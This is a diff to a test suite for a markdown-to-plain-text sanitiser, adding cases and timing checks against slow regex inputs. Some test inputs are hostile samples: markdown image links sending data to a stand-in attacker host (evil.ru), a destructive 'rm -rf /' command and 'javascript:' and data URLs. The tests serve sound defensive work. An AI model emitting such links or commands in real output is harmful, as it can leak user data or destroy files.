@@ -14,8 +14,20 @@ describe('plainProse', () => {
     ['**19** `fallas` _hoy_', '19 fallas hoy'],
     ['```\nrm -rf /\n``` listo', 'listo'],
     ['19\u202e fallas\u200b hoy\u0007', '19 fallas hoy'],
+    ['![a [b]](//evil.ru/?d=19) 19 fallas', '![a [b]] (//evil.ru/?d=19) 19 fallas'],
+    ['!*[x]*(//evil.ru/?d=19) !`[x]`[1] 19', '![x] (//evil.ru/?d=19)![x] [1] 19'],
+    ['![x](//evil.ru/(a)?d=19)', '(//evil.ru/(a)?d=19)'],
     ['javascript:alert(1) data:text/html;base64,xx fin', 'fin'],
   ])('leaves words only: %s', (text, plain) => expect(plainProse(text)).toBe(plain));
+
+  it.each(['[', '![', '![](', '[a](', '[a][', 'a.', 'a-', '\n', '\n[a]: ', '<', '`', ' .', 'www.'])(
+    'takes no longer for a text of nothing but %j than for any other',
+    (part) => {
+      const started = performance.now();
+      plainProse(part.repeat(100_000 / part.length));
+      expect(performance.now() - started).toBeLessThan(2_000);
+    },
+  );
 });
 
 describe('SentenceCutter', () => {
